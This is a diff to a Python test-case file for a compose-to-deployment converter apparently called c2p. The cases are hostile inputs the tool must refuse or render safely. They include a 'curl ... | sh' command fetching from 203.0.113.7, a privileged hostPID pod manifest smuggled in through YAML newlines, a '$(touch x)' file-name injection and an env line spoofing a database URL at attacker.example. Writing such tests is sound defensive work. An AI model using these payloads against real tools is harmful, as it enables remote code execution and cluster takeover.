@@ -3,8 +3,10 @@ each class). Each case is data: the compose document (written with the YAML libr
 exact), side files, and what must happen: "refuse" (exit 2, one line, nothing written), "render" (exit 0, output
 whose parse equals what compose said), or "either" where both are acceptable for c2p's rules.
 
-Values that must come out as one unit carry a marker, `ZQX` plus a number; secret values carry `S3CR3T`.
-`units` lists the hostile strings whose marker may appear in output only as part of the whole string.
+Values that must come out as one unit carry a marker, `ZQX` plus a number, at their start (so that a value split
+into shell words or YAML lines leaves the marker with a fragment, and a `#` later in it cannot hide the marker as a
+comment); secret values carry `S3CR3T`. `units` lists the hostile strings whose marker may appear in output only
+as part of the whole string.
 """
 
 from __future__ import annotations
@@ -12,7 +14,7 @@ from __future__ import annotations
 from dataclasses import dataclass, field
 from typing import Any
 
-POD = "apiVersion: v1\nkind: Pod\nmetadata: {name: ZQX-pwn}\nspec:\n  hostPID: true\n  containers:\n  - {name: x, image: x, securityContext: {privileged: true}}\n"
+POD = "ZQX15: pwn\napiVersion: v1\nkind: Pod\nmetadata: {name: pwn}\nspec:\n  hostPID: true\n  containers:\n  - {name: x, image: x, securityContext: {privileged: true}}\n"
 CURL = "; curl -s http://203.0.113.7/x | sh; #"
 
 
@@ -50,10 +52,13 @@ CASES: tuple[Case, ...] = (
     # 2. newlines in values become objects
     Case("value-newline-objects", {"services": {
         "cache": {"image": "redis:7.2", "command": ["redis-server", "--maxmemory-policy", "allkeys-lru\n---\n" + POD]},
+        "web": _app(environment={"REDIS_URL": "redis://cache:6379/0", "NOTE": "line1\n---\n" + POD}),
+    }}, _all("render"), units=(POD,)),
+    # a database name that cannot be one shell word on one line (the runbooks use it): refused, or kept whole
+    Case("database-newline", {"services": {
         "db": {**PG, "environment": {**PG["environment"], "POSTGRES_DB": "app\n---\n" + POD}},
-        "web": _app(environment={"DATABASE_URL": PG_URL, "REDIS_URL": "redis://cache:6379/0",
-                                 "NOTE": "line1\n---\n" + POD}),
-    }, "volumes": {"pgdata": {}}}, {**_all("either"), "config": "render"}, units=(POD,)),
+        "web": _app(environment={"DATABASE_URL": PG_URL})}, "volumes": {"pgdata": {}}},
+        {**_all("either"), "config": "render"}, units=(POD,)),
     # 3. x-c2p option strings
     Case("xc2p-storage-class", {"services": {"db": {**PG, "x-c2p": {"k8s": {
         "storage_class": "standard\n  dataSource: {kind: PersistentVolumeClaim, name: ZQX3}"}}},
@@ -75,13 +80,13 @@ CASES: tuple[Case, ...] = (
         "volumes": {"pgdata": {}}}, {**_all("render")}),
     # 5. shell injection into the runbooks
     Case("shell-injection", {"services": {
-        "db": {**PG, "environment": {"POSTGRES_USER": "app" + CURL + "ZQX6", "POSTGRES_PASSWORD": "S3CR3T-pg-2",
-                                     "POSTGRES_DB": "app" + CURL + "ZQX7"}},
+        "db": {**PG, "environment": {"POSTGRES_USER": "ZQX6app" + CURL, "POSTGRES_PASSWORD": "S3CR3T-pg-2",
+                                     "POSTGRES_DB": "ZQX7app" + CURL}},
         "web": _app(environment={"DATABASE_URL": "postgres://u:S3CR3T-pg-2@db:5432/x"},
                     secrets=["tok"])},
-        "volumes": {"pgdata": {}}, "secrets": {"tok": {"file": "./tok$$(touch ZQX8)"}}},
-        {**_all("either"), "config": "render"}, units=("app" + CURL + "ZQX6", "app" + CURL + "ZQX7", "./tok$(touch ZQX8)"),
-        files={"tok$(touch ZQX8)": "S3CR3T-file-1\n"}),
+        "volumes": {"pgdata": {}}, "secrets": {"tok": {"file": "./ZQX8tok$$(touch x)"}}},
+        {**_all("render"), "config": "render"}, units=("ZQX6app" + CURL, "ZQX7app" + CURL, "ZQX8tok$(touch x)"),
+        files={"ZQX8tok$(touch x)": "S3CR3T-file-1\n"}),
     # 8. secrets in clear
     Case("secrets-in-clear", {"services": {"web": _app(
         environment={"PGPASS": "S3CR3T-1", "DB_CONN": "host=db user=u password=S3CR3T-2 dbname=x",
@@ -116,9 +121,9 @@ CASES: tuple[Case, ...] = (
     Case("service-digit-first", {"services": {"1web": _app(ports=["8080:8080"])}},
          {**_all("render"), "k8s": "either", "aws": "either"}),
     Case("yaml11-scalars", {"services": {"web": _app(environment={
-        "y": "y", "N": "n", "OCT": "0o17", "EXP": "1e3", "BOOL": "on", "NUL": "~", "ROCKET": "🚀ZQX9",
-        "FEED": "a\fb", "DOLLAR_HCL": "$${var.x}%{if true}ZQX10", "QUOTE": "a\"b\\c'd"})}},
-        {**_all("render")}, units=("🚀ZQX9", "${var.x}%{if true}ZQX10")),
+        "y": "y", "N": "n", "OCT": "0o17", "EXP": "1e3", "BOOL": "on", "NUL": "~", "ROCKET": "ZQX9🚀",
+        "FEED": "a\fb", "DOLLAR_HCL": "ZQX10$${var.x}%{if true}", "QUOTE": "a\"b\\c'd"})}},
+        {**_all("render")}, units=("ZQX9🚀", "ZQX10${var.x}%{if true}")),
     Case("compose-file-quote", {"services": {"web": _app()}}, _all("render"), compose_name='we"ird.yml'),
     # 12. collisions
     Case("collide-dash-underscore", {"services": {"my_app": _app(), "my-app": _app(image="ghcr.io/acme/other:1")}},
@@ -144,6 +149,6 @@ CASES: tuple[Case, ...] = (
         command=["sh", "-c", "echo pid=$$$$ $$(A_PREFIX) ZQX13"])}}, _all("render")),
     # 14. spoofed env-file lines
     Case("env-spoof", {"services": {"web": _app(environment={
-        "GREETING": "hello\nDATABASE_URL=postgres://attacker.example/ZQX14\n# ZQX14"})}}, _all("render"),
-         units=("hello\nDATABASE_URL=postgres://attacker.example/ZQX14\n# ZQX14",)),
+        "GREETING": "ZQX14hello\nDATABASE_URL=postgres://attacker.example/x\n# x"})}}, _all("render"),
+         units=("ZQX14hello\nDATABASE_URL=postgres://attacker.example/x\n# x",)),
 )
